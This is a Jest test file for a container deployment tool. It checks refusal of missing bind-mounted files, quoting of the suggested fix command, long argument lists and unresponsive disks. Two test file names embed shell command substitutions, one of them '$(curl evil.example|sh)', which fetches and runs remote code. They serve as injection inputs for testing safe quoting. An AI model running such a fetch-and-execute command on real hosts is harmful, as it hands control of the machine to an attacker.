import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { afterAll, expect, test } from '@jest/globals'
import { parseProject } from '../../../src/core/release/compose/model.ts'
import { run } from '../../../src/io/runner/command.ts'
import type { Deployment } from '../../../src/steps/host/deployment.ts'
import { warnOfDisk } from '../../../src/steps/host/disk.ts'
import { refuseMissingFiles } from '../../../src/steps/host/mounted-files.ts'
import { recordingWorld } from '../../support/recording-world.ts'

const folder = mkdtempSync(join(tmpdir(), 'slipway-mounts-'))
afterAll(() => rmSync(folder, { recursive: true }))

/** This machine as a host, with programs of that folder first, and a project that mounts these files. */
function deploymentOf(sources: readonly string[], programs = '', left = 300): Deployment {
  const volumes = sources.map((source) => ({ type: 'bind', source, target: '/etc/app.conf' }))
  const services = { web: { image: 'a', volumes } }
  const body = new TextEncoder().encode(JSON.stringify({ DockerRootDir: folder }))
  const host = {
    name: 'this machine',
    isRemote: false,
    engine: { ask: async () => ({ status: 200, body }) },
    docker: {},
    run: ([program = '', ...args]: readonly string[], options: object = {}) =>
      run(program, args, {
        ...options,
        environment: { PATH: `${programs}${delimiter}${process.env['PATH']}` },
      }),
  }
  const project = parseProject(JSON.stringify({ name: 'shop', services }))
  const { world } = recordingWorld()
  const stack = { host, files: { directory: folder }, project }
  return { world, host, stack, left: () => left } as unknown as Deployment
}

/** Programs that do not come back, as on a network disk that is gone. */
function hanging(...names: readonly string[]): string {
  const programs = mkdtempSync(join(folder, 'programs-'))
  for (const name of names) {
    writeFileSync(join(programs, name), '#!/bin/sh\nexec /bin/sleep 60\n')
    chmodSync(join(programs, name), 0o755)
  }
  return programs
}

test('a file that is there may have any name', async () => {
  const path = join(folder, 'a $(id) \\n b.conf')
  writeFileSync(path, '')
  await expect(refuseMissingFiles(deploymentOf([path], '', 20_000))).resolves.toBeUndefined()
})

test('a file that is not there is named, and is one word of the command to copy', async () => {
  const path = join(folder, 'a\\t$(curl evil.example|sh)', 'x.conf')
  const refused = refuseMissingFiles(deploymentOf([path], '', 20_000))
  await expect(refused).rejects.toThrow(`mounts ${path}, and the host has no such file`)
  await expect(refused).rejects.toMatchObject({
    fix: expect.stringContaining(`mkdir -p '${path}'`),
  })
})

test('there may be more files than a command line holds', async () => {
  const paths = Array.from({ length: 14_000 }, (_, index) =>
    join(folder, `${'long'.repeat(40)}-${index}.conf`),
  )
  await expect(refuseMissingFiles(deploymentOf(paths, '', 20_000))).rejects.toThrow(
    'long-13999.conf',
  )
}, 20_000)

test('a disk that does not answer ends the deployment before anything is touched', async () => {
  const refused = refuseMissingFiles(deploymentOf(['/srv/x.conf'], hanging('sh')))
  await expect(refused).rejects.toThrow(
    'does not answer in time whether it has the files that the compose file mounts',
  )
}, 10_000)

test('a disk that does not answer keeps no deployment from asking how full it is', async () => {
  await expect(warnOfDisk(deploymentOf([], hanging('df')))).resolves.toBeUndefined()
}, 10_000)
